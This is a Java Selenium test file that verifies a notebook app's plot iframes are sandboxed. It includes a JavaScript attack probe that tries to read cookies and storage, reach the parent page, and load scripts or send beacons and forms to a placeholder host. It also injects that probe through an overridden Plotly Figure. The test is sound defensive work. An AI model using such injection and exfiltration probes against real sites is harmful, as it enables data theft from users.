package gregor.notebook;

import module java.base;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;

/// Plots are drawn in frames that can do nothing else.
class PlotFrameTest extends BrowserTest {
    private static final String CHART = "new gregor.archive.Chart(\"Três\", gregor.archive.Chart.Kind.COLUMNS, "
            + "List.of(new gregor.archive.Chart.Point(\"a\", 1), new gregor.archive.Chart.Point(\"ü<b>\", 2), new gregor.archive.Chart.Point(\"c\", 3)))";
    /// A plot that only Plotly draws.
    private static final String DOTS = """
            import tech.tablesaw.api.*;
            tech.tablesaw.plotly.api.ScatterPlot.create("Ours", Table.create(DoubleColumn.create("x", 1, 2), DoubleColumn.create("y", 3, 4)), "x", "y")""";
    /// What a script in a frame could try. Each leaves its name, and whether it was kept from it.
    private static final String ATTACK = """
            const say = (name, what) => { document.body.dataset[name] = what; };
            const tried = (name, way) => Promise.resolve().then(way).then(() => say(name, 'done'), problem => say(name, 'kept out'));
            const add = (tag, attributes) => new Promise((resolve, reject) => {
              const element = Object.assign(document.createElement(tag), attributes, {onload: resolve, onerror: reject});
              document.body.append(element);
            });
            tried('page', () => parent.document.title);
            tried('cookie', () => document.cookie);
            tried('storage', () => localStorage.length);
            tried('session', () => sessionStorage.length);
            tried('database', () => indexedDB.open('x'));
            tried('fetch', () => fetch('THERE/fetch', {mode: 'no-cors'}));
            tried('notebook', () => fetch('/api/snapshots', {method: 'POST', mode: 'no-cors', body: '{}'}));
            tried('image', () => add('img', {src: 'THERE/image'}));
            tried('script', () => add('script', {src: 'THERE/script'}));
            tried('style', () => add('link', {rel: 'stylesheet', href: 'THERE/style'}));
            tried('ours', () => add('script', {src: '/notebook.mjs'}));
            tried('module', () => import('THERE/module'));
            tried('socket', () => new Promise((resolve, reject) => Object.assign(new WebSocket('THERE/socket'.replace('http', 'ws')), {onopen: resolve, onerror: reject})));
            tried('window', () => { if (!open('THERE/window')) throw new Error(); });
            setTimeout(() => tried('top', () => { top.location = 'THERE/top'; }), 600);
            add('iframe', {src: 'THERE/frame'});
            navigator.sendBeacon('THERE/beacon', 'x');
            add('form', {action: 'THERE/form', method: 'post'}).catch(() => 0);
            setTimeout(() => document.forms[0].submit(), 300);
            """;

    private static HttpServer there;
    private static final Queue<String> ASKED = new ConcurrentLinkedQueue<>();

    @BeforeAll
    static void startAnother() throws IOException {
        there = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        there.createContext("/", exchange -> {
            ASKED.add(exchange.getRequestURI().getPath());
            boolean isPage = exchange.getRequestURI().getPath().equals("/page");
            byte[] page = ("<body>" + (isPage ? "<script>" + attack() + "</script>" : ""))
                    .getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
            exchange.close();
        });
        there.start();
    }

    @AfterAll
    static void stopAnother() {
        there.stop(0);
    }

    private static String attack() {
        return ATTACK.replace("THERE", "http://127.0.0.1:" + there.getAddress().getPort());
    }

    @BeforeEach
    void begin() throws IOException {
        open("list");
    }

    private static void run(int cell, String code) {
        browser.type(cell, code);
        browser.run(cell);
        browser.awaitState(cell, "fresh");
    }

    private static void enter(String selector) {
        browser.script("document.querySelector(arguments[0]).scrollIntoView({block: 'center'})", selector);
        browser.driver().switchTo().frame(browser.driver().findElement(By.cssSelector(selector)));
    }

    /// What is drawn in a frame.
    private static String drawn(String selector) {
        enter(selector);
        browser.await("a plot", () -> browser.script(
                "return !!document.querySelector('.main-svg .xtick') || document.body.textContent.includes('cannot be drawn')")
                .equals(true));
        String text = String.valueOf(browser.script("return document.getElementById('plot').textContent"));
        browser.driver().switchTo().defaultContent();
        return text;
    }

    private static List<?> loaded() {
        return (List<?>) browser.script(
                "return performance.getEntriesByType('resource').map(each => each.name).filter(name => name.includes('plot'))");
    }

    @Test
    void aChartAndAFigureAreDrawnBelowTheirCellsAndAfterAReload() {
        assertThat(loaded()).as("nothing of it comes before there is a plot").isEmpty();
        run(1, CHART);
        assertThat(browser.output(1)).startsWith("==> Três\n");
        assertThat(browser.text("#cell-1 figure.plot")).contains("Três", "a", "ü<b>", "c: 3");
        assertThat(loaded()).as("a chart needs no library").isEmpty();
        run(2, DOTS);
        assertThat(browser.output(2)).isEqualTo("==> a plot; ./gregor notebook draws it");
        assertThat(drawn("#cell-2 iframe")).contains("Ours");
        run(3, "\"no plot\"");
        assertThat(browser.script("return document.querySelectorAll('#cell-3 iframe').length")).isEqualTo(0L);
        browser.saved();
        reload("list");
        browser.awaitState(1, "fresh");
        assertThat(browser.text("#cell-1 figure.plot")).contains("Três");
        closeSession();
        reload("list");
        browser.awaitState(1, "before");
        browser.await("the chart", () -> browser.text("#cell-1 figure.plot").contains("Três"));
        browser.await("the frame", () -> browser.isVisible("#cell-2 iframe"));
        assertThat(drawn("#cell-2 iframe")).contains("Ours");
    }

    @Test
    void aFrameSeesNothingOfThePageAndAsksForNothing() throws InterruptedException {
        browser.type(1, """
                import tech.tablesaw.plotly.components.*;
                Figure evil = new Figure(Layout.builder().build()) {
                    @Override
                    public String asJavascript(String name) {
                        return "<script>%s</script>";
                    }
                };
                evil""".formatted(attack().replace("\"", "\\\"").replace("\n", "\\n")));
        browser.run(1);
        browser.awaitState(1, "fresh");
        ASKED.clear();
        String before = browser.driver().getCurrentUrl();
        Set<String> windows = browser.driver().getWindowHandles();
        enter("#cell-1 iframe");
        Map<?, ?> done = attacked();
        assertThat(done).hasSizeGreaterThan(12);
        assertThat(done.values()).as(done.toString()).allSatisfy(what -> assertThat(what).isEqualTo("kept out"));
        browser.script("location = arguments[0] + '/self'", "http://127.0.0.1:" + there.getAddress().getPort());
        Thread.sleep(1000);
        browser.driver().switchTo().defaultContent();
        assertThat(ASKED).isEmpty();
        assertThat(browser.driver().getCurrentUrl()).isEqualTo(before);
        assertThat(browser.driver().getWindowHandles()).isEqualTo(windows);
    }

    @Test
    void theAttacksSucceedWhereNothingKeepsThemIn() {
        ASKED.clear();
        browser.open("http://127.0.0.1:" + there.getAddress().getPort() + "/page");
        browser.await("what a page may do", () -> ASKED.containsAll(
                List.of("/fetch", "/image", "/script", "/style", "/module", "/frame", "/beacon", "/form")));
    }

    private static Map<?, ?> attacked() {
        browser.await("the attacks",
                () -> browser.script("return Object.keys(document.body.dataset).length").equals(15L));
        return (Map<?, ?>) browser.script("return {...document.body.dataset}");
    }

    @Test
    void aPageThatIsNotInAFrameDrawsNothing() {
        browser.open(base + "/plot.html#" + java.util.Base64.getEncoder()
                .encodeToString("document.title = 'in'".getBytes(StandardCharsets.US_ASCII)));
        browser.await("the refusal", () -> browser.text("#plot").contains("it is drawn only in a lesson"));
        assertThat(browser.driver().getTitle()).isEqualTo("plot");
    }

    @Test
    void theSiteDrawsThemFromFiles(@TempDir Path folder) {
        new Site(course).write(folder);
        browser.open(folder.resolve("11-archive.html").toUri().toString());
        assertThat(browser.script("return document.querySelectorAll('figure.plot svg').length")).isEqualTo(3L);
        assertThat(browser.text("#cell-15 .plot")).contains("Events per hour", "2026-03-02 00:00");
        assertThat(browser.text("#cell-16 .plot")).contains("Events after a wait of up to …", "10 min: 1,814");
        assertThat(browser.text("#cell-17 .plot")).contains("How they ended", "ontime: 14,239");
        assertThat(browser.script("return getComputedStyle(document.querySelector('.plot text')).fontFamily"))
                .asString().startsWith("Literata");
        assertThat(folder.resolve(PlotFrame.PAGE)).doesNotExist();
        assertThat(browser.violations()).isEmpty();
    }

    @Test
    void anExportedPageDrawsPlotsByItself() throws IOException {
        run(1, CHART);
        run(2, DOTS);
        browser.script("document.querySelector('.cell').cell.book.export('html')");
        Path file = browser.downloads().resolve("gregor-list.html");
        browser.await("the file", () -> Files.exists(file));
        Path alone = Files.copy(file, Files.createTempDirectory(home, "alone").resolve("page.html"));
        browser.open(alone.toUri().toString());
        assertThat(browser.text("figure.plot")).contains("Três", "ü<b>");
        assertThat(drawn("iframe.plot")).contains("Ours");
    }
}
